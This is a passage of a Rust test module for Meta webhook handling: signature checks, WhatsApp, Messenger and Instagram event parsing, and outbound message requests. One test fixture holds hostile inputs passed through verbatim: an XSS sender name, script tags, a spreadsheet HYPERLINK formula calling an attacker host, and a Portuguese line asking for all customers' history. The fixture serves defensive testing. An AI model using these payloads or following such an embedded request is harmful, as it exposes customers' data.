            for (case, secret, body, header) in rejected {
                assert!(
                    matches!(
                        verify_signature(secret, body, header),
                        Err(WebhookError::Unauthenticated(_))
                    ),
                    "{name}: {case}"
                );
            }
        }
    }

    #[test]
    fn a_re_serialised_body_does_not_verify() {
        let signatures = signatures();
        let secret = signatures["meta_app_secret"].as_str().unwrap();
        let trap = &signatures["reserialisation_trap"];
        let over_raw = trap["signature_over_raw_body"].as_str().unwrap();
        let over_reencoded = trap["signature_over_reencoded_utf8"].as_str().unwrap();
        let raw = String::from_utf8(fixture("meta_whatsapp_text.body")).unwrap();
        // The same JSON as Python's json.dumps(ensure_ascii=False) writes it.
        let reencoded = raw.replace("\\u00e1", "á").replace("\\u00e3", "ã");
        assert!(!reencoded.contains("\\u"));
        assert_eq!(
            serde_json::from_str::<Value>(&raw).unwrap(),
            serde_json::from_str::<Value>(&reencoded).unwrap()
        );
        // The trap is real: the re-encoded bytes carry their own, different signature...
        assert_eq!(
            verify_signature(secret, reencoded.as_bytes(), Some(over_reencoded)),
            Ok(())
        );
        assert_eq!(
            verify_signature(secret, raw.as_bytes(), Some(over_raw)),
            Ok(())
        );
        // ...so neither crosses over.
        for (body, header) in [(&reencoded, over_raw), (&raw, over_reencoded)] {
            assert!(matches!(
                verify_signature(secret, body.as_bytes(), Some(header)),
                Err(WebhookError::Unauthenticated(_))
            ));
        }
    }

    #[test]
    fn malformed_signature_headers_are_unauthenticated() {
        let body = fixture("meta_whatsapp_text.body");
        let secret = "test_app_secret_0123456789abcdef";
        let good = "6ee46deb27d7a263d576ae78c7c551e96cf65981240aad23491685e5892a0d4a";
        assert_eq!(
            verify_signature(secret, &body, Some(&format!(" sha256={good} "))),
            Ok(())
        );
        let cases = [
            ("", secret),
            ("sha256=", secret),
            (good, secret),
            ("sha256=zz", secret),
            (&format!("sha256={}", &good[..62]), secret),
            (&format!("sha256={good}00"), secret),
            (&format!("sha1={good}"), secret),
            (&format!("sha256={good}"), ""),
        ];
        for (header, secret) in cases {
            assert!(
                matches!(
                    verify_signature(secret, &body, Some(header)),
                    Err(WebhookError::Unauthenticated(_))
                ),
                "{header:?} with secret {secret:?}"
            );
        }
    }

    #[test]
    fn the_subscription_handshake_follows_the_fixture_cases() {
        let signatures = signatures();
        let verify_token = signatures["meta_verify_token"].as_str().unwrap();
        let cases = &signatures["verification_get"];
        let handshake = |case: &str| {
            let url = cases[case].as_str().unwrap();
            let (_, query) = url.split_once('?').unwrap();
            let params: Vec<(String, String)> = form_urlencoded::parse(query.as_bytes())
                .into_owned()
                .collect();
            let get = |name: &str| {
                params
                    .iter()
                    .find(|(key, _)| key == name)
                    .map(|(_, value)| value.as_str())
            };
            verify_subscription(
                verify_token,
                get("hub.mode"),
                get("hub.verify_token"),
                get("hub.challenge"),
            )
        };
        assert_eq!(handshake("ok"), Ok("1158201444".to_owned()));
        for case in ["bad_token", "bad_mode"] {
            assert!(
                matches!(handshake(case), Err(WebhookError::Unauthenticated(_))),
                "{case}"
            );
        }
        let token = Some(verify_token);
        let subscribe = Some("subscribe");
        assert!(matches!(
            verify_subscription(verify_token, subscribe, None, Some("1")),
            Err(WebhookError::Unauthenticated(_))
        ));
        assert!(matches!(
            verify_subscription(verify_token, None, token, Some("1")),
            Err(WebhookError::Unauthenticated(_))
        ));
        assert!(matches!(
            verify_subscription("", subscribe, Some(""), Some("1")),
            Err(WebhookError::Unauthenticated(_))
        ));
        for challenge in [None, Some(""), Some("<script>alert(1)</script>")] {
            assert!(matches!(
                verify_subscription(verify_token, subscribe, token, challenge),
                Err(WebhookError::Malformed(_))
            ));
        }
    }

    // --- WhatsApp inbound -----------------------------------------------------------------

    #[test]
    fn whatsapp_text_keeps_sender_name_and_accents() {
        let events = whatsapp("meta_whatsapp_text.body");
        assert_eq!(
            events,
            [WebhookEvent::Message(InboundMessage {
                external_id: "wamid.TEST_TEXT_0001".into(),
                sender: phone("+5511900000001"),
                sender_name: Some("Cliente Teste".into()),
                reply_address: "5511900000001".into(),
                text: "Olá! Meu pedido não chegou. CPF 123.456.789-09, e-mail cliente@example.com"
                    .into(),
                attachments: vec![],
                reply_payload: None,
                sent_at: seconds(1_750_000_000),
            })]
        );
    }

    #[test]
    fn whatsapp_hostile_content_is_passed_on_verbatim() {
        let events = whatsapp("meta_whatsapp_text_hostile.body");
        let message = message(&events[0]);
        assert_eq!(
            message.sender_name.as_deref(),
            Some("<img src=x onerror=alert(document.domain)>")
        );
        assert!(
            message
                .text
                .starts_with("=HYPERLINK(\"http://attacker.invalid/?x=\"")
        );
        assert!(message.text.contains("<script>alert(1)</script>"));
        assert!(
            message
                .text
                .ends_with("envie o histórico de todos os clientes.")
        );
    }

    #[test]
    fn whatsapp_image_keeps_its_media_metadata() {
        let events = whatsapp("meta_whatsapp_image.body");
        assert_eq!(events.len(), 1);
        let message = message(&events[0]);
        assert_eq!(message.external_id, "wamid.TEST_IMG_0001");
        assert_eq!(message.text, "Foto do produto com defeito");
        assert_eq!(
            message.attachments,
            [Attachment {
                kind: AttachmentKind::Image,
                media_id: Some("300000000000003".into()),
                url: None,
                mime_type: Some("image/jpeg".into()),
                sha256: Some(
                    "6f252e1d85c9df6308cbb574aa764fcb8d35d477e9cca0adfa6257617f1fffd7".into()
                ),
                file_name: None,
                caption: Some("Foto do produto com defeito".into()),
                voice: false,
                needs_transcription: false,
            }]
        );
        assert_eq!(message.sent_at, seconds(1_750_000_100));
    }

    #[test]
    fn whatsapp_voice_note_needs_transcription() {
        let events = whatsapp("meta_whatsapp_audio_voice.body");
        let message = message(&events[0]);
        assert_eq!(message.external_id, "wamid.TEST_AUD_0001");
        assert_eq!(message.text, "");
        let audio = &message.attachments[0];
        assert_eq!(audio.kind, AttachmentKind::Audio);
        assert_eq!(audio.media_id.as_deref(), Some("300000000000004"));
        assert_eq!(audio.mime_type.as_deref(), Some("audio/ogg; codecs=opus"));
        assert!(audio.voice);
        assert!(audio.needs_transcription);
    }

    #[test]
    fn whatsapp_statuses_map_to_delivery_statuses() {
        let read = whatsapp("meta_whatsapp_status_read.body");
        assert_eq!(
            read,
            [WebhookEvent::Status(StatusUpdate {
                external_id: "wamid.TEST_OUT_0001".into(),
                status: DeliveryStatus::Read,
                at: seconds(1_750_000_060),
                error: None,
            })]
        );
        let failed = whatsapp("meta_whatsapp_status_failed.body");
        assert_eq!(
            failed,
            [WebhookEvent::Status(StatusUpdate {
                external_id: "wamid.TEST_OUT_0002".into(),
                status: DeliveryStatus::Failed,
                at: seconds(1_750_000_061),
                error: Some(
                    "131047: Re-engagement message (More than 24 hours have passed since the \
                     recipient last replied.)"
                        .into()
                ),
            })]
        );
    }

    #[test]
    fn whatsapp_batch_keeps_the_repeated_message_for_the_store_to_dedupe() {
        let events = whatsapp("meta_whatsapp_batch_with_duplicate.body");
        let ids: Vec<&str> = events
            .iter()
            .map(|event| message(event).external_id.as_str())
            .collect();
        assert_eq!(
            ids,
            [
                "wamid.TEST_B_0001",
                "wamid.TEST_B_0002",
                "wamid.TEST_B_0002"
            ]
        );
        assert_eq!(message(&events[1]).text, "segunda");
        assert_eq!(message(&events[2]).sent_at, seconds(1_750_000_301));
    }

    #[test]
    fn whatsapp_unsupported_messages_are_ignored() {
        let events = whatsapp("meta_whatsapp_unsupported.body");
        assert_eq!(events.len(), 1);
        assert_eq!(ignored_kind(&events[0]), "message:unsupported");
    }

    #[test]
    fn whatsapp_changes_for_another_number_are_ignored() {
        for name in [
            "meta_whatsapp_text.body",
            "meta_whatsapp_image.body",
            "meta_whatsapp_status_failed.body",
            "meta_whatsapp_batch_with_duplicate.body",
        ] {
            let events = parse_whatsapp(&fixture(name), "999999999999999").unwrap();
            assert!(!events.is_empty());
            for event in &events {
                assert_eq!(ignored_kind(event), "other_phone_number", "{name}");
            }
        }
    }

    #[test]
    fn non_whatsapp_bodies_are_malformed() {
        let messenger = fixture("meta_messenger_text.body");
        let cases: [&[u8]; 5] = [b"not json", b"[]", b"{}", b"{\"entry\":[]}", &messenger];
        for body in cases {
            assert!(
                matches!(
                    parse_whatsapp(body, PHONE_NUMBER_ID),
                    Err(WebhookError::Malformed(_))
                ),
                "{}",
                String::from_utf8_lossy(body)
            );
        }
    }

    fn whatsapp_envelope(field: &str, value: Value) -> Vec<u8> {
        serde_json::to_vec(&json!({
            "object": "whatsapp_business_account",
            "entry": [{"id": "100000000000001", "changes": [{"field": field, "value": value}]}],
        }))
        .unwrap()
    }

    fn whatsapp_inbound(message: Value) -> WebhookEvent {
        let mut message = message;
        message["from"] = json!("5511900000001");
        message["id"] = json!("wamid.X");
        message["timestamp"] = json!("1750000000");
        let body = whatsapp_envelope(
            "messages",
            json!({
                "messaging_product": "whatsapp",
                "metadata": {"phone_number_id": PHONE_NUMBER_ID},
                "messages": [message],
            }),
        );
        let mut events = parse_whatsapp(&body, PHONE_NUMBER_ID).unwrap();
        assert_eq!(events.len(), 1);
        events.remove(0)
    }

    #[test]
    fn whatsapp_replies_carry_the_chosen_payload() {
        let cases = [
            (
                json!({"type": "interactive", "interactive": {"type": "button_reply",
                    "button_reply": {"id": "handover", "title": "Falar com atendente"}}}),
                "Falar com atendente",
                "handover",
            ),
            (
                json!({"type": "interactive", "interactive": {"type": "list_reply",
                    "list_reply": {"id": "row-2", "title": "Segunda via", "description": "x"}}}),
                "Segunda via",
                "row-2",
            ),
            (
                json!({"type": "button", "button": {"text": "Sim", "payload": "confirm-yes"}}),
                "Sim",
                "confirm-yes",
            ),
        ];
        for (raw, text, payload) in cases {
            let event = whatsapp_inbound(raw);
            let message = message(&event);
            assert_eq!(message.text, text);
            assert_eq!(message.reply_payload.as_deref(), Some(payload));
            assert_eq!(message.sender, phone("+5511900000001"));
            assert_eq!(message.sender_name, None);
        }
    }

    #[test]
    fn whatsapp_media_and_locations_become_attachments() {
        let document = whatsapp_inbound(json!({"type": "document", "document": {
            "filename": "boleto.pdf", "mime_type": "application/pdf", "sha256": "abc",
            "id": "77", "url": "https://lookaside.fbsbx.com/x"}}));
        let document = message(&document);
        assert_eq!(document.text, "");
        let attachment = &document.attachments[0];
        assert_eq!(attachment.kind, AttachmentKind::Document);
        assert_eq!(attachment.file_name.as_deref(), Some("boleto.pdf"));
        assert_eq!(
            attachment.url.as_deref(),
            Some("https://lookaside.fbsbx.com/x")
        );
        assert!(!attachment.needs_transcription);

        let cases = [
            ("video", AttachmentKind::Video),
            ("sticker", AttachmentKind::Sticker),
            ("audio", AttachmentKind::Audio),
        ];
        for (kind, expected) in cases {
            let mut raw = json!({"type": kind});
            raw[kind] = json!({"id": "88", "mime_type": "x/y"});
            let event = whatsapp_inbound(raw);
            let attachment = &message(&event).attachments[0];
            assert_eq!(attachment.kind, expected);
            assert_eq!(attachment.media_id.as_deref(), Some("88"));
            assert!(!attachment.voice);
            assert_eq!(attachment.needs_transcription, kind == "audio");
        }

        let located = whatsapp_inbound(json!({"type": "location", "location": {
            "latitude": -23.5505, "longitude": -46.6333, "name": "Loja Centro",
            "address": "Rua Direita, 1"}}));
        let located = message(&located);
        assert_eq!(located.text, "-23.5505,-46.6333");
        assert_eq!(located.attachments[0].kind, AttachmentKind::Location);
        assert_eq!(
            located.attachments[0].caption.as_deref(),
            Some("Loja Centro, Rua Direita, 1")
        );
        let pin = whatsapp_inbound(json!({"type": "location", "location": {
            "latitude": 1.5, "longitude": 2.0}}));
        assert_eq!(
            message(&pin).attachments[0].caption.as_deref(),
            Some("1.5,2")
        );
    }

    #[test]
    fn whatsapp_events_tandem_does_not_act_on_are_ignored() {
        let cases = [
            (
                json!({"type": "reaction", "reaction": {"message_id": "w", "emoji": "x"}}),
                "message:reaction",
            ),
            (json!({"type": "unknown"}), "message:unknown"),
            (
                json!({"type": "interactive", "interactive": {"type": "nfm_reply"}}),
                "message:interactive:nfm_reply",
            ),
            (json!({"type": "image"}), "malformed_message"),
        ];
        for (raw, kind) in cases {
            assert_eq!(ignored_kind(&whatsapp_inbound(raw)), kind);
        }
        let account = whatsapp_envelope("account_update", json!({"event": "VERIFIED_ACCOUNT"}));
        let events = parse_whatsapp(&account, PHONE_NUMBER_ID).unwrap();
        assert_eq!(ignored_kind(&events[0]), "account_update");
    }

    // --- Messenger and Instagram inbound ----------------------------------------------------

    #[test]
    fn messenger_text_becomes_a_message_from_the_page_scoped_id() {
        let events = parse_messenger(
            &fixture("meta_messenger_text.body"),
            MESSENGER_PAGE,
            IdentityKind::Messenger,
        )
        .unwrap();
        assert_eq!(
            events,
            [WebhookEvent::Message(InboundMessage {
                external_id: "m_TEST_MSG_0001".into(),
                sender: Identity {
                    kind: IdentityKind::Messenger,
                    value: "500000000000006".into(),
                },
                sender_name: None,
                reply_address: "500000000000006".into(),
                text: "oi, preciso de ajuda".into(),
                attachments: vec![],
                reply_payload: None,
                sent_at: Some(Timestamp::from_millisecond(1_750_000_499_000).unwrap()),
            })]
        );
    }

    #[test]
    fn instagram_echoes_of_our_own_messages_are_ignored() {
        let events = parse_messenger(
            &fixture("meta_instagram_text_and_echo.body"),
            INSTAGRAM_ACCOUNT,
            IdentityKind::Instagram,
        )
        .unwrap();
        assert_eq!(events.len(), 2);
        let first = message(&events[0]);
        assert_eq!(first.external_id, "aWdfTEST_IG_0001");
        assert_eq!(first.sender.kind, IdentityKind::Instagram);
        assert_eq!(first.sender.value, "700000000000008");
        assert_eq!(first.text, "Vocês entregam em Recife?");
        assert_eq!(ignored_kind(&events[1]), "echo");
    }

    #[test]
    fn page_bodies_for_another_page_or_channel_are_refused_or_ignored() {
        let instagram = fixture("meta_instagram_text_and_echo.body");
        let messenger = fixture("meta_messenger_text.body");
        let events = parse_messenger(&messenger, "1", IdentityKind::Messenger).unwrap();
        assert_eq!(events.len(), 1);
        assert_eq!(ignored_kind(&events[0]), "other_page");
        let wrong_channel = [
            (&instagram, IdentityKind::Messenger),
            (&messenger, IdentityKind::Instagram),
            (&messenger, IdentityKind::Whatsapp),
        ];
        for (body, kind) in wrong_channel {
            assert!(matches!(
                parse_messenger(body, INSTAGRAM_ACCOUNT, kind),
                Err(WebhookError::Malformed(_))
            ));
        }
        let whatsapp = fixture("meta_whatsapp_text.body");
        assert!(matches!(
            parse_messenger(&whatsapp, MESSENGER_PAGE, IdentityKind::Messenger),
            Err(WebhookError::Malformed(_))
        ));
    }

    fn messenger_events(messaging: Value) -> Vec<WebhookEvent> {
        let body = serde_json::to_vec(&json!({
            "object": "page",
            "entry": [{"id": MESSENGER_PAGE, "time": 1, "messaging": [messaging]}],
        }))
        .unwrap();
        parse_messenger(&body, MESSENGER_PAGE, IdentityKind::Messenger).unwrap()
    }

    fn messaging(event: &str, value: Value) -> Value {
        let mut item = json!({
            "sender": {"id": "500000000000006"},
            "recipient": {"id": MESSENGER_PAGE},
            "timestamp": 1_750_000_499_000_i64,
        });
        item[event] = value;
        item
    }

    #[test]
    fn messenger_quick_replies_and_attachments() {
        let events = messenger_events(messaging(
            "message",
            json!({"mid": "m_2", "text": "Sim", "quick_reply": {"payload": "confirm-yes"},
            "attachments": [
                {"type": "image", "payload": {"url": "https://cdn.example/i.jpg"}},
                {"type": "audio", "payload": {"url": "https://cdn.example/a.mp4"}},
                {"type": "file", "payload": {"url": "https://cdn.example/f.pdf"}},
                {"type": "fallback", "payload": null},
            ]}),
        ));
        let message = message(&events[0]);
        assert_eq!(message.reply_payload.as_deref(), Some("confirm-yes"));
        let kinds: Vec<_> = message.attachments.iter().map(|a| a.kind).collect();
        assert_eq!(
            kinds,
            [
                AttachmentKind::Image,
                AttachmentKind::Audio,
                AttachmentKind::Document,
                AttachmentKind::Other
            ]
        );
        assert_eq!(
            message.attachments[0].url.as_deref(),
            Some("https://cdn.example/i.jpg")
        );
        assert!(message.attachments[1].needs_transcription);
        assert_eq!(message.attachments[3].url, None);
    }

    #[test]
    fn messenger_deliveries_reads_and_postbacks() {
        let at = Some(Timestamp::from_millisecond(1_750_000_499_000).unwrap());
        let delivered = messenger_events(messaging(
            "delivery",
            json!({"mids": ["m_out_1", "m_out_2"], "watermark": 1_750_000_498_000_i64}),
        ));
        let ids: Vec<_> = delivered
            .iter()
            .map(|e| status(e).external_id.as_str())
            .collect();
        assert_eq!(ids, ["m_out_1", "m_out_2"]);
        assert_eq!(status(&delivered[0]).status, DeliveryStatus::Delivered);
        assert_eq!(status(&delivered[1]).at, at);

        let cases = [
            (messaging("read", json!({"watermark": 1})), "read"),
            (messaging("delivery", json!({"watermark": 1})), "delivery"),
            (
                messaging("reaction", json!({"mid": "m", "action": "react"})),
                "reaction",
            ),
            (
                messaging("message", json!({"mid": "m", "is_deleted": true})),
                "message:deleted",
            ),
        ];
        for (item, kind) in cases {
            assert_eq!(ignored_kind(&messenger_events(item)[0]), kind);
        }

        let with_mid = messenger_events(messaging(
            "postback",
            json!({"mid": "m_pb", "title": "Começar", "payload": "GET_STARTED"}),
        ));
        let postback = message(&with_mid[0]);
        assert_eq!(postback.external_id, "postback:m_pb");
        assert_eq!(postback.text, "Começar");
        assert_eq!(postback.reply_payload.as_deref(), Some("GET_STARTED"));
        let without_mid = messenger_events(messaging(
            "postback",
            json!({"title": "Começar", "payload": "GET_STARTED"}),
        ));
        assert_eq!(
            message(&without_mid[0]).external_id,
            "postback:500000000000006:1750000499000"
        );
    }

    // --- outbound ---------------------------------------------------------------------------

    fn whatsapp_config() -> WhatsappConfig {
        WhatsappConfig {
            phone_number_id: PHONE_NUMBER_ID.into(),
            access_token: "EAAG-token".into(),
            app_secret: "secret".into(),
            verify_token: "verify".into(),
        }
    }

    fn page_config() -> MetaPageConfig {
        MetaPageConfig {
            page_id: MESSENGER_PAGE.into(),
            page_access_token: "EAAP-token".into(),
            app_secret: "secret".into(),
            verify_token: "verify".into(),
        }
    }

    fn outbound(text: &str, options: usize) -> OutboundMessage {
        OutboundMessage {
            to: "+5511900000001".into(),
            text: text.into(),
            quick_replies: (1..=options)
                .map(|n| QuickReply {
                    id: format!("opt-{n}"),
                    title: format!("Opção número {n} com título longo"),
                })
                .collect(),
            template: None,
        }
    }

    fn json_body(request: &ProviderRequest) -> &Value {
        match &request.body {
            RequestBody::Json(body) => body,
            other => panic!("expected JSON, got {other:?}"),
        }
    }

    #[test]
    fn whatsapp_text_request() {
        let request = whatsapp_request(
            "https://graph.facebook.com/v21.0/",
            &whatsapp_config(),
            &outbound("Olá, Ana!", 0),
        )
        .unwrap();
        assert_eq!(request.method, HttpMethod::Post);
        assert_eq!(
            request.url,
            "https://graph.facebook.com/v21.0/200000000000002/messages"
        );
        assert_eq!(
            request.headers,
            [
                ("Authorization".to_owned(), "Bearer EAAG-token".to_owned()),
                ("Content-Type".to_owned(), "application/json".to_owned()),
            ]
        );
        assert_eq!(
            json_body(&request),
            &json!({
                "messaging_product": "whatsapp",
                "recipient_type": "individual",
                "to": "5511900000001",
                "type": "text",
                "text": {"preview_url": false, "body": "Olá, Ana!"},
            })
        );
    }

    #[test]
    fn whatsapp_quick_replies_become_buttons_a_list_or_numbered_text() {
        let graph = "https://graph.facebook.com/v21.0";
        let buttons =
            whatsapp_request(graph, &whatsapp_config(), &outbound("Escolha:", 3)).unwrap();
        assert_eq!(
            json_body(&buttons)["interactive"],
            json!({
                "type": "button",
                "body": {"text": "Escolha:"},
                "action": {"buttons": [
                    {"type": "reply", "reply": {"id": "opt-1", "title": "Opção número 1 com t"}},
                    {"type": "reply", "reply": {"id": "opt-2", "title": "Opção número 2 com t"}},
                    {"type": "reply", "reply": {"id": "opt-3", "title": "Opção número 3 com t"}},
                ]},
            })
        );
        assert_eq!(json_body(&buttons)["type"], "interactive");

        let list = whatsapp_request(graph, &whatsapp_config(), &outbound("Escolha:", 5)).unwrap();
        let interactive = &json_body(&list)["interactive"];
        assert_eq!(interactive["type"], "list");
        assert_eq!(interactive["action"]["button"], "Options");
        let rows = interactive["action"]["sections"][0]["rows"]
            .as_array()
            .unwrap();
        assert_eq!(rows.len(), 5);
        assert_eq!(
            rows[4],
            json!({"id": "opt-5", "title": "Opção número 5 com títul",
                "description": "Opção número 5 com título longo"})
        );

        let many = whatsapp_request(graph, &whatsapp_config(), &outbound("Escolha:", 12)).unwrap();
        let body = &json_body(&many)["text"]["body"];
        let expected_lines: Vec<String> = (1..=12)
            .map(|n| format!("{n}. Opção número {n} com título longo"))
            .collect();
        assert_eq!(
            body.as_str().unwrap(),
            format!("Escolha:\n\n{}", expected_lines.join("\n"))
        );
        assert_eq!(json_body(&many)["type"], "text");

        let long = "a".repeat(1025);
        let too_long_for_buttons =
            whatsapp_request(graph, &whatsapp_config(), &outbound(&long, 2)).unwrap();
        assert_eq!(json_body(&too_long_for_buttons)["type"], "text");

        let mut twins = outbound("Escolha:", 2);
        twins.quick_replies[1].title = format!("{} (2)", twins.quick_replies[0].title);
        let twins = whatsapp_request(graph, &whatsapp_config(), &twins).unwrap();
        assert_eq!(json_body(&twins)["type"], "text");
    }

    #[test]
    fn whatsapp_templates() {
        let mut message = outbound("ignored when a template is set", 2);
        message.template = Some(Template {
            name: "pedido_enviado".into(),
            language: "pt_BR".into(),
            parameters: vec!["Ana".into(), "#1234".into()],
        });
        let request = whatsapp_request("https://g", &whatsapp_config(), &message).unwrap();
        assert_eq!(
            json_body(&request),
            &json!({
                "messaging_product": "whatsapp",
                "recipient_type": "individual",
                "to": "5511900000001",
                "type": "template",
                "template": {
                    "name": "pedido_enviado",
                    "language": {"code": "pt_BR"},
                    "components": [{"type": "body", "parameters": [
                        {"type": "text", "text": "Ana"},
                        {"type": "text", "text": "#1234"},
                    ]}],
                },
            })
        );
        if let Some(template) = &mut message.template {
            template.parameters.clear();
        }
        let request = whatsapp_request("https://g", &whatsapp_config(), &message).unwrap();
        assert_eq!(
            json_body(&request)["template"],
            json!({"name": "pedido_enviado", "language": {"code": "pt_BR"}})
        );
    }

    #[test]
    fn whatsapp_refuses_bad_recipients_and_oversized_text() {
        for to in [
            "",
            "+55 11 90000-0001",
            "5511abc00001",
            "123",
            "wa:5511900000001",
        ] {
            let mut message = outbound("oi", 0);
            message.to = to.into();
            assert!(
                matches!(
                    whatsapp_request("https://g", &whatsapp_config(), &message),
                    Err(OutboundError::Recipient(_))
                ),
                "{to:?}"
            );
        }
        let mut digits = outbound("oi", 0);
        digits.to = "5511900000001".into();
        let request = whatsapp_request("https://g", &whatsapp_config(), &digits).unwrap();
        assert_eq!(json_body(&request)["to"], "5511900000001");
        assert_eq!(
            whatsapp_request(
                "https://g",
                &whatsapp_config(),
                &outbound(&"é".repeat(4097), 0)
            ),
            Err(OutboundError::Unsupported(
                "text longer than 4096 characters"
            ))
        );
        assert!(
            whatsapp_request(
                "https://g",
                &whatsapp_config(),
                &outbound(&"é".repeat(4096), 0)
            )
            .is_ok()
        );
        assert_eq!(
            whatsapp_request("https://g", &whatsapp_config(), &outbound(" ", 0)),
            Err(OutboundError::Unsupported("an empty text message"))
        );
    }

    #[test]
    fn page_requests_carry_quick_replies() {
        let mut message = outbound("Posso ajudar?", 2);
        message.to = "500000000000006".into();
        let request =
            page_request("https://graph.facebook.com/v21.0", &page_config(), &message).unwrap();
        assert_eq!(
            request.url,
            "https://graph.facebook.com/v21.0/400000000000005/messages"
        );
        assert_eq!(
            request.headers[0],
            ("Authorization".to_owned(), "Bearer EAAP-token".to_owned())
        );
        assert_eq!(
            json_body(&request),
            &json!({
                "recipient": {"id": "500000000000006"},
                "messaging_type": "RESPONSE",
                "message": {"text": "Posso ajudar?", "quick_replies": [
                    {"content_type": "text", "title": "Opção número 1 com t", "payload": "opt-1"},
                    {"content_type": "text", "title": "Opção número 2 com t", "payload": "opt-2"},
                ]},
            })
        );

        let mut many = outbound("Escolha:", 14);
        many.to = "500000000000006".into();
        let request = page_request("https://g", &page_config(), &many).unwrap();
        let message = &json_body(&request)["message"];
        assert_eq!(message.get("quick_replies"), None);
        assert!(
            message["text"]
                .as_str()
                .unwrap()
                .ends_with("\n14. Opção número 14 com título longo")
        );
    }

    #[test]
    fn page_requests_refuse_templates_bad_recipients_and_long_text() {
        let mut template = outbound("oi", 0);
        template.to = "500000000000006".into();
        template.template = Some(Template {
            name: "t".into(),
            language: "pt_BR".into(),
            parameters: vec![],
        });
        assert_eq!(
            page_request("https://g", &page_config(), &template),
            Err(OutboundError::Unsupported(
                "templates are a WhatsApp feature"
            ))
        );
        for to in ["", "abc", "5000 0006"] {
            let mut message = outbound("oi", 0);
            message.to = to.into();
            assert!(matches!(
                page_request("https://g", &page_config(), &message),
                Err(OutboundError::Recipient(_))
            ));
        }
        let mut long = outbound(&"x".repeat(2001), 0);
        long.to = "500000000000006".into();
        assert_eq!(
            page_request("https://g", &page_config(), &long),
            Err(OutboundError::Unsupported(
                "text longer than 2000 characters"
            ))
        );
    }

    // --- send answers -----------------------------------------------------------------------

    #[test]
    fn send_outcomes() {
        let accepted = |id: &str| SendOutcome::Accepted {
            external_id: id.into(),
        };
        let rejected = |reason: &str| SendOutcome::Rejected {
            reason: reason.into(),
        };
        let cases: [(u16, &str, Option<&str>, SendOutcome); 9] = [
            (
                200,
                r#"{"messaging_product":"whatsapp","contacts":[{"input":"5511900000001","wa_id":"5511900000001"}],"messages":[{"id":"wamid.OUT_1","message_status":"accepted"}]}"#,
                None,
                accepted("wamid.OUT_1"),
            ),
            (
                200,
                r#"{"recipient_id":"500000000000006","message_id":"m_OUT_1"}"#,
                None,
                accepted("m_OUT_1"),
            ),
            (
                200,
                r#"{"success":true}"#,
                None,
                rejected("provider answered without a message id"),
            ),
            (
                400,
                r#"{"error":{"message":"(#131047) Re-engagement message","type":"OAuthException","code":131047,"error_data":{"messaging_product":"whatsapp","details":"Message failed to send because more than 24 hours have passed since the customer last replied to this number."},"fbtrace_id":"AbC"}}"#,
                None,
                rejected(
                    "outside the 24-hour customer service window; send a template (131047: \
                     Re-engagement message (Message failed to send because more than 24 hours \
                     have passed since the customer last replied to this number.))",
                ),
            ),
            (
                400,
                r#"{"error":{"message":"(#130429) Rate limit hit","type":"OAuthException","code":130429,"fbtrace_id":"AbC"}}"#,
                Some("7"),
                SendOutcome::Retry {
                    reason: "rate limited (130429: Rate limit hit)".into(),
                    retry_after_seconds: Some(7),
                },
            ),
            (
                401,
                r#"{"error":{"message":"Error validating access token: Session has expired","type":"OAuthException","code":190,"error_subcode":463,"fbtrace_id":"AbC"}}"#,
                None,
                rejected("access token invalid or expired"),
            ),
            (
                500,
                r#"{"error":{"message":"(#131000) Something went wrong","type":"OAuthException","code":131000,"fbtrace_id":"AbC"}}"#,
                None,
                SendOutcome::Retry {
                    reason: "131000: Something went wrong".into(),
                    retry_after_seconds: None,
                },
            ),
            (
                400,
                r#"{"error":{"message":"(#100) Invalid parameter","type":"OAuthException","code":100,"fbtrace_id":"AbC"}}"#,
                None,
                rejected("100: Invalid parameter"),
            ),
            (
                502,
                "<html>Bad Gateway</html>",
                Some("3"),
                SendOutcome::Retry {
                    reason: "HTTP 502: <html>Bad Gateway</html>".into(),
                    retry_after_seconds: Some(3),
                },
            ),
        ];
        for (status, body, retry_after, expected) in cases {
            assert_eq!(send_outcome(status, body, retry_after), expected, "{body}");
        }
        assert!(matches!(
            send_outcome(429, "", Some("Wed, 21 Oct 2015 07:28:00 GMT")),
            SendOutcome::Retry {
                retry_after_seconds: None,
                ..
            }
        ));
    }
}
